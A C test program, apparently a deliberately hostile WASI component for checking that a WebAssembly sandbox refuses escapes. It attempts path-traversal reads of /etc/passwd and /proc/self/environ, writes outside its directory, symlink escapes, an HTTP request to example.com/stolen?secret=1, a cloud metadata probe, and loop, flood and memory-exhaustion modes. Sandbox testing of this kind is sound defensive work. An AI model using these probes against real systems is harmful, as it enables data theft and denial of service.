// What a hostile component might try, each attempt with the answer it got.
// Files and arguments go through wasi-libc. libc knows no sockets and no HTTP, so those
// functions are imported straight from their component interfaces, in the flattened form
// that the canonical ABI gives them.
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define IMPORT(interface, function) __attribute__((import_module(interface), import_name(function)))

// ---- wasi:sockets ----
IMPORT("wasi:sockets/instance-network@0.2.12", "instance-network") int32_t instance_network(void);
IMPORT("wasi:sockets/network@0.2.12", "[resource-drop]network") void drop_network(int32_t network);
IMPORT("wasi:sockets/tcp-create-socket@0.2.12", "create-tcp-socket") void create_tcp_socket(int32_t family, void *result);
// An ip-socket-address flattens to its case, then the joined fields of both cases.
IMPORT("wasi:sockets/tcp@0.2.12", "[method]tcp-socket.start-connect")
void start_connect(int32_t socket, int32_t network, int32_t is_ipv6, int32_t port, int32_t a, int32_t b, int32_t c, int32_t d,
                   int32_t e, int32_t f, int32_t g, int32_t h, int32_t i, int32_t j, void *result);
IMPORT("wasi:sockets/tcp@0.2.12", "[method]tcp-socket.finish-connect") void finish_connect(int32_t socket, void *result);
IMPORT("wasi:sockets/tcp@0.2.12", "[method]tcp-socket.subscribe") int32_t tcp_subscribe(int32_t socket);
IMPORT("wasi:sockets/tcp@0.2.12", "[resource-drop]tcp-socket") void drop_tcp_socket(int32_t socket);
IMPORT("wasi:sockets/ip-name-lookup@0.2.12", "resolve-addresses")
void resolve_addresses(int32_t network, const char *name, size_t length, void *result);
IMPORT("wasi:sockets/ip-name-lookup@0.2.12", "[method]resolve-address-stream.resolve-next-address")
void resolve_next_address(int32_t stream, void *result);
IMPORT("wasi:sockets/ip-name-lookup@0.2.12", "[method]resolve-address-stream.subscribe") int32_t resolve_subscribe(int32_t stream);
IMPORT("wasi:sockets/ip-name-lookup@0.2.12", "[resource-drop]resolve-address-stream") void drop_resolve_stream(int32_t stream);

// ---- wasi:io ----
IMPORT("wasi:io/poll@0.2.12", "[method]pollable.block") void block(int32_t pollable);
IMPORT("wasi:io/poll@0.2.12", "[resource-drop]pollable") void drop_pollable(int32_t pollable);

// ---- wasi:http ----
IMPORT("wasi:http/types@0.2.12", "[constructor]fields") int32_t new_fields(void);
IMPORT("wasi:http/types@0.2.12", "[constructor]outgoing-request") int32_t new_request(int32_t headers);
IMPORT("wasi:http/types@0.2.12", "[method]outgoing-request.set-scheme")
int32_t set_scheme(int32_t request, int32_t is_some, int32_t scheme, const char *other, size_t length);
IMPORT("wasi:http/types@0.2.12", "[method]outgoing-request.set-authority")
int32_t set_authority(int32_t request, int32_t is_some, const char *text, size_t length);
IMPORT("wasi:http/types@0.2.12", "[method]outgoing-request.set-path-with-query")
int32_t set_path(int32_t request, int32_t is_some, const char *text, size_t length);
IMPORT("wasi:http/types@0.2.12", "[method]future-incoming-response.subscribe") int32_t future_subscribe(int32_t future);
IMPORT("wasi:http/types@0.2.12", "[method]future-incoming-response.get") void future_get(int32_t future, void *result);
IMPORT("wasi:http/types@0.2.12", "[resource-drop]future-incoming-response") void drop_future(int32_t future);
IMPORT("wasi:http/types@0.2.12", "[method]incoming-response.status") int32_t response_status(int32_t response);
IMPORT("wasi:http/types@0.2.12", "[resource-drop]incoming-response") void drop_response(int32_t response);
IMPORT("wasi:http/outgoing-handler@0.2.12", "handle")
void http_handle(int32_t request, int32_t has_options, int32_t options, void *result);

// Where the host puts strings and lists that it gives back.
__attribute__((export_name("cabi_realloc"))) void *cabi_realloc(void *old, size_t old_size, size_t align, size_t size) {
  (void)old_size;
  (void)align;
  void *address = realloc(old, size);
  if (!address && size) abort();
  return address;
}

static const char *const socket_errors[] = {
    "unknown",          "access-denied",     "not-supported",         "invalid-argument",   "out-of-memory",
    "timeout",          "concurrency-conflict", "not-in-progress",    "would-block",        "invalid-state",
    "new-socket-limit", "address-not-bindable", "address-in-use",     "remote-unreachable", "connection-refused",
    "connection-reset", "connection-aborted", "datagram-too-large",   "name-unresolvable",  "temporary-resolver-failure",
    "permanent-resolver-failure"};
enum { would_block = 8 };

static const char *const http_errors[] = {
    "DNS-timeout", "DNS-error", "destination-not-found", "destination-unavailable", "destination-IP-prohibited",
    "destination-IP-unroutable", "connection-refused", "connection-terminated", "connection-timeout", "connection-read-timeout",
    "connection-write-timeout", "connection-limit-reached", "TLS-protocol-error", "TLS-certificate-error", "TLS-alert-received",
    "HTTP-request-denied", "HTTP-request-length-required", "HTTP-request-body-size", "HTTP-request-method-invalid",
    "HTTP-request-URI-invalid", "HTTP-request-URI-too-long", "HTTP-request-header-section-size", "HTTP-request-header-size",
    "HTTP-request-trailer-section-size", "HTTP-request-trailer-size", "HTTP-response-incomplete",
    "HTTP-response-header-section-size", "HTTP-response-header-size", "HTTP-response-body-size",
    "HTTP-response-trailer-section-size", "HTTP-response-trailer-size", "HTTP-response-transfer-coding",
    "HTTP-response-content-coding", "HTTP-response-timeout", "HTTP-upgrade-failed", "HTTP-protocol-error", "loop-detected",
    "configuration-error", "internal-error"};

static const char *name_of(const char *const *names, size_t count, uint8_t index) {
  return index < count ? names[index] : "a code that does not exist";
}
#define SOCKET_ERROR(code) name_of(socket_errors, sizeof socket_errors / sizeof *socket_errors, code)
#define HTTP_ERROR(code) name_of(http_errors, sizeof http_errors / sizeof *http_errors, code)

static int refused = 0;
static int allowed = 0;

static void trying(const char *what) {
  printf("try   %s\n", what);
  fflush(stdout);
}
static void answer_refused(const char *why) {
  refused++;
  printf("  no  %s\n", why);
}
static void answer_got(const char *what) {
  allowed++;
  printf("  YES %s\n", what);
}

// ---- escape ----

static void try_read(const char *path) {
  char line[256];
  snprintf(line, sizeof line, "read %s", path);
  trying(line);
  int file = open(path, O_RDONLY);
  if (file < 0) {
    answer_refused(strerror(errno));
    return;
  }
  ssize_t length = read(file, line, 40);
  if (length < 0) answer_refused(strerror(errno));
  else {
    line[strcspn(line, "\n")] = 0;
    answer_got(line);
  }
  close(file);
}

static void try_write(const char *path) {
  char line[256];
  snprintf(line, sizeof line, "write %s", path);
  trying(line);
  int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
  if (file < 0) {
    answer_refused(strerror(errno));
    return;
  }
  if (write(file, "was here\n", 9) == 9) answer_got("written");
  else answer_refused(strerror(errno));
  close(file);
}

static void try_symlink(const char *target, const char *path) {
  char line[256];
  snprintf(line, sizeof line, "make %s a symbolic link to %s", path, target);
  trying(line);
  if (symlink(target, path)) {
    answer_refused(strerror(errno));
    return;
  }
  // A link that points outside is no harm by itself; following it would be.
  printf("  ... made\n");
  try_read(path);
}

static void try_rename(const char *from, const char *to) {
  char line[256];
  snprintf(line, sizeof line, "move %s to %s", from, to);
  trying(line);
  if (rename(from, to)) answer_refused(strerror(errno));
  else answer_got("moved");
}

static void escape(void) {
  try_read("/etc/passwd");
  try_read("../../etc/passwd");
  try_read("/data/../etc/passwd");
  try_read("/data/../../../../etc/passwd");
  try_read("/data/./sub/../../../etc/passwd");
  try_read("/data//etc/../../etc/passwd");
  try_read("/proc/self/environ");
  try_write("/data/../outside.txt");
  try_write("/tmp/outside.txt");
  try_symlink("/etc/passwd", "/data/absolute-link");
  try_symlink("../../etc/passwd", "/data/relative-link");
  try_rename("/data/bait.txt", "/data/../../bait.txt");
}

// ---- network ----

static void try_connect(const char *label, uint8_t a, uint8_t b, uint8_t c, uint8_t d, uint16_t port) {
  char line[128];
  snprintf(line, sizeof line, "wasi:sockets: connect to %s, %d.%d.%d.%d port %d", label, a, b, c, d, port);
  trying(line);
  struct { uint8_t is_error; union { uint8_t error; int32_t socket; }; } created;
  create_tcp_socket(0, &created);
  if (created.is_error) {
    snprintf(line, sizeof line, "create-tcp-socket: %s", SOCKET_ERROR(created.error));
    answer_refused(line);
    return;
  }
  int32_t network = instance_network();
  struct { uint8_t is_error; uint8_t error; } started;
  start_connect(created.socket, network, 0, port, a, b, c, d, 0, 0, 0, 0, 0, 0, &started);
  if (started.is_error) {
    snprintf(line, sizeof line, "start-connect: %s", SOCKET_ERROR(started.error));
    answer_refused(line);
  } else {
    struct { uint8_t is_error; union { uint8_t error; struct { int32_t in, out; }; }; } finished;
    for (;;) {
      finish_connect(created.socket, &finished);
      if (!finished.is_error || finished.error != would_block) break;
      int32_t pollable = tcp_subscribe(created.socket);
      block(pollable);
      drop_pollable(pollable);
    }
    if (finished.is_error) {
      snprintf(line, sizeof line, "finish-connect: %s", SOCKET_ERROR(finished.error));
      answer_refused(line);
    } else {
      // The streams are children of the socket: the program ends here, so they are left to the host.
      answer_got("connected");
      return;
    }
  }
  drop_network(network);
  drop_tcp_socket(created.socket);
}

static void try_resolve(const char *name) {
  char line[128];
  snprintf(line, sizeof line, "wasi:sockets: look up %s", name);
  trying(line);
  int32_t network = instance_network();
  struct { uint8_t is_error; union { uint8_t error; int32_t stream; }; } asked;
  resolve_addresses(network, name, strlen(name), &asked);
  if (asked.is_error) {
    snprintf(line, sizeof line, "resolve-addresses: %s", SOCKET_ERROR(asked.error));
    answer_refused(line);
  } else {
    // result<option<ip-address>, error-code>; an ip-address is at most 18 bytes
    struct { uint8_t is_error, pad; union { uint8_t error; uint8_t is_some; }; uint8_t rest[31]; } next;
    for (;;) {
      resolve_next_address(asked.stream, &next);
      if (!next.is_error || next.error != would_block) break;
      int32_t pollable = resolve_subscribe(asked.stream);
      block(pollable);
      drop_pollable(pollable);
    }
    if (next.is_error) {
      snprintf(line, sizeof line, "resolve-next-address: %s", SOCKET_ERROR(next.error));
      answer_refused(line);
    } else if (next.is_some) answer_got("an address");
    else answer_refused("no address");
    drop_resolve_stream(asked.stream);
  }
  drop_network(network);
}

static void try_http(bool secure, const char *authority, const char *path) {
  char line[256];
  snprintf(line, sizeof line, "wasi:http: GET %s://%s%s", secure ? "https" : "http", authority, path);
  trying(line);
  int32_t request = new_request(new_fields());
  set_scheme(request, 1, secure ? 1 : 0, "", 0);
  set_authority(request, 1, authority, strlen(authority));
  set_path(request, 1, path, strlen(path));
  // An error-code holds an option<u64>, so what follows each discriminant lies at a multiple of eight.
  _Alignas(8) uint8_t sent[48];
  http_handle(request, 0, 0, sent);
  if (sent[0]) {
    snprintf(line, sizeof line, "handle: %s", HTTP_ERROR(sent[8]));
    answer_refused(line);
    return;
  }
  int32_t future;
  memcpy(&future, sent + 8, sizeof future);
  int32_t pollable = future_subscribe(future);
  block(pollable);
  drop_pollable(pollable);
  // option<result<result<incoming-response, error-code>>>: three discriminants, eight bytes apart.
  _Alignas(8) uint8_t got[64];
  future_get(future, got);
  if (!got[0]) answer_refused("get: no answer yet");
  else if (got[8]) answer_refused("get: already taken");
  else if (got[16]) {
    snprintf(line, sizeof line, "get: %s", HTTP_ERROR(got[24]));
    answer_refused(line);
  } else {
    int32_t response;
    memcpy(&response, got + 24, sizeof response);
    snprintf(line, sizeof line, "status %d", (int)response_status(response));
    answer_got(line);
    drop_response(response);
  }
  drop_future(future);
}

static void network(void) {
  try_connect("this machine", 127, 0, 0, 1, 80);
  try_connect("somebody's server", 192, 0, 2, 1, 443);
  try_resolve("example.com");
  try_http(true, "example.com", "/stolen?secret=1");
  try_http(false, "127.0.0.1:9", "/");
  try_http(false, "169.254.169.254", "/latest/meta-data/");
}

// ---- what has no end ----

static void loop(void) {
  printf("Looping. Only Stop or the time limit ends this.\n");
  fflush(stdout);
  for (volatile uint32_t i = 0;; i++) {
  }
}

static void flood(void) {
  for (uint64_t i = 0;; i++) printf("%llu All work and no play makes a flood of output.\n", (unsigned long long)i);
}

static void memory(void) {
  const size_t block_size = 16 << 20;
  size_t total = 0;
  trying("allocate memory, 16 MiB at a time, until refused");
  for (;;) {
    // Volatile, or the compiler sees that nobody reads the block and leaves the allocation out.
    volatile char *volatile block = malloc(block_size);
    if (!block) break;
    // Touched, so that a host cannot merely promise it.
    for (size_t i = 0; i < block_size; i += 4096) block[i] = 1;
    total += block_size;
    printf("  ... %zu MiB\n", total >> 20);
    fflush(stdout);
  }
  char line[64];
  snprintf(line, sizeof line, "refused after %zu MiB", total >> 20);
  answer_refused(line);
}

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "all";
  if (!strcmp(mode, "loop")) loop();
  else if (!strcmp(mode, "flood")) flood();
  else if (!strcmp(mode, "memory")) memory();
  else if (!strcmp(mode, "escape")) escape();
  else if (!strcmp(mode, "network")) network();
  else if (!strcmp(mode, "all")) {
    escape();
    network();
  } else {
    fprintf(stderr, "hostile: no mode %s; there are loop, flood, memory, escape, network and all\n", mode);
    return 2;
  }
  printf("%d refused, %d allowed\n", refused, allowed);
  return 1;
}
